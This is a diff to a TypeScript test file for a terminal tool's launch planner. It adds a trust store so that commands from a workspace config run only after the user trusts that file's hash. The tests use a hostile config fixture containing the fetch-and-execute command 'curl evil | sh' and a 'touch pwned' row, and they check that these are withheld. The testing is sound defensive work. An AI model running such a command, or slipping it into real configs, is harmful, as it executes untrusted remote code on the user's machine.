@@ -1,14 +1,22 @@
 // The launch plan is plain data: what `swb ARGS` would start, without starting anything.
-import { mkdtempSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { planLaunch } from '../../../src/app/launch-plan.js';
+import { recordTrust, trustStorePath } from '../../../src/config/config-trust-store.js';
 
 function workspace(config?: unknown): { cwd: string; env: NodeJS.ProcessEnv } {
   const cwd = mkdtempSync(join(tmpdir(), 'swb-plan-'));
   if (config !== undefined) writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify(config));
   return { cwd, env: { SWB_HOME: join(cwd, 'home'), XDG_CONFIG_HOME: join(cwd, 'xdg'), SHELL: '/bin/sh', PATH: process.env.PATH ?? '' } };
+}
+
+/** What `swb trust FILE` records: the file's path with its content's hash, in this env's store. */
+function trust(file: string, env: NodeJS.ProcessEnv): void {
+  const r = recordTrust(trustStorePath(env), file, createHash('sha256').update(readFileSync(file)).digest('hex'));
+  if (!r.ok) throw new Error(r.message);
 }
 
 describe('planLaunch', () => {
@@ -25,6 +33,7 @@ describe('planLaunch', () => {
 
   it("falls back to the config's rows (with their wake policy), then to one shell", () => {
     const a = workspace({ rows: [{ name: 'w', command: 'true', wake: 'off' }] });
+    trust(join(a.cwd, 'switchboard.json'), a.env);
     const ra = planLaunch([], a.env, a.cwd);
     if (!('plan' in ra)) throw new Error(JSON.stringify(ra));
     expect(ra.plan.rows).toEqual([{ spec: expect.objectContaining({ name: 'w' }), wake: 'off' }]);
@@ -63,9 +72,87 @@ describe('planLaunch', () => {
 
   it("a row whose working directory does not exist is a usage error naming the path", () => {
     const { cwd, env } = workspace({ rows: [{ name: 'w', command: 'true', cwd: 'no-such-dir' }] });
+    trust(join(cwd, 'switchboard.json'), env);
     expect(planLaunch([], env, cwd)).toEqual({
       exit: 2,
       message: `swb: row w: its working directory ${join(cwd, 'no-such-dir')} does not exist (or is not a directory)`,
     });
+  });
+});
+
+describe('a config found in the workspace is somebody else\'s code until trusted', () => {
+  const hostile = {
+    rows: [{ name: 'evil', command: 'touch pwned' }],
+    worktrees: { setup: 'curl evil | sh', root: '/tmp/anywhere', setupTimeoutS: 9 },
+    federation: { url: 'nats://127.0.0.1:4999', node: 'x' },
+    limits: { maxUnread: 7 },
+    layout: 'grid',
+  };
+
+  it('untrusted: no row, no setup, no federation from it; its limits and layout apply; a note names the file and swb trust', () => {
+    const { cwd, env } = workspace(hostile);
+    const r = planLaunch([], env, cwd);
+    if (!('plan' in r)) throw new Error(JSON.stringify(r));
+    expect(r.plan.rows.map((x) => x.spec.name)).toEqual(['shell']);
+    expect(r.plan.federation).toBeUndefined();
+    expect(r.plan.worktrees).toEqual({ setupTimeoutS: 9 });
+    expect(r.plan.limits.maxUnread).toBe(7);
+    expect(r.plan.layoutMode).toBe('grid');
+    expect(r.plan.configWithheld).toMatchObject({ rows: [{ name: 'evil' }], setup: 'curl evil | sh' });
+    const file = join(cwd, 'switchboard.json');
+    expect(r.plan.warnings).toContainEqual({
+      text: `${file} is not trusted, so swb ran nothing it names (1 row, worktrees.setup, worktrees.root, federation); to run it: swb trust ${file}`,
+      row: null,
+    });
+  });
+
+  it('trusted: everything applies; changed after that: untrusted again', () => {
+    const { cwd, env } = workspace(hostile);
+    const file = join(cwd, 'switchboard.json');
+    trust(file, env);
+    const r = planLaunch([], env, cwd);
+    if (!('plan' in r)) throw new Error(JSON.stringify(r));
+    expect(r.plan.rows.map((x) => x.spec.name)).toEqual(['evil']);
+    expect(r.plan.federation).toMatchObject({ url: 'nats://127.0.0.1:4999' });
+    expect(r.plan.worktrees).toMatchObject({ setup: 'curl evil | sh' });
+    expect(r.plan.configWithheld).toBeNull();
+    writeFileSync(file, JSON.stringify({ ...hostile, rows: [{ name: 'evil', command: 'touch pwned-again' }] }));
+    const again = planLaunch([], env, cwd);
+    if (!('plan' in again)) throw new Error(JSON.stringify(again));
+    expect(again.plan.rows.map((x) => x.spec.name)).toEqual(['shell']);
+    expect(again.plan.federation).toBeUndefined();
+  });
+
+  it('$SWB_CONFIG earns no trust by being set; the operator\'s own config and --config FILE need none', () => {
+    const { cwd, env } = workspace();
+    const elsewhere = join(cwd, 'elsewhere.json');
+    writeFileSync(elsewhere, JSON.stringify(hostile));
+    const viaEnv = planLaunch([], { ...env, SWB_CONFIG: elsewhere }, cwd);
+    if (!('plan' in viaEnv)) throw new Error(JSON.stringify(viaEnv));
+    expect(viaEnv.plan.rows.map((x) => x.spec.name)).toEqual(['shell']);
+    expect(viaEnv.plan.federation).toBeUndefined();
+
+    const flag = planLaunch(['--config', elsewhere], env, cwd);
+    if (!('plan' in flag)) throw new Error(JSON.stringify(flag));
+    expect(flag.plan.rows.map((x) => x.spec.name)).toEqual(['evil']);
+    expect(flag.plan.configOrigin).toBe('flag');
+
+    const own = join(env.XDG_CONFIG_HOME!, 'switchboard', 'config.json');
+    mkdirSync(join(env.XDG_CONFIG_HOME!, 'switchboard'), { recursive: true });
+    writeFileSync(own, JSON.stringify(hostile));
+    for (const e of [env, { ...env, SWB_CONFIG: own }]) {
+      const r = planLaunch([], e, cwd);
+      if (!('plan' in r)) throw new Error(JSON.stringify(r));
+      expect(r.plan.rows.map((x) => x.spec.name)).toEqual(['evil']);
+      expect(r.plan.federation).toMatchObject({ url: 'nats://127.0.0.1:4999' });
+    }
+  });
+
+  it('a file that names nothing to run is not worth a note', () => {
+    const { cwd, env } = workspace({ layout: 'grid', limits: { maxUnread: 3 } });
+    const r = planLaunch([], env, cwd);
+    if (!('plan' in r)) throw new Error(JSON.stringify(r));
+    expect(r.plan.configWithheld).toBeNull();
+    expect(r.plan.warnings).toEqual([]);
   });
 });
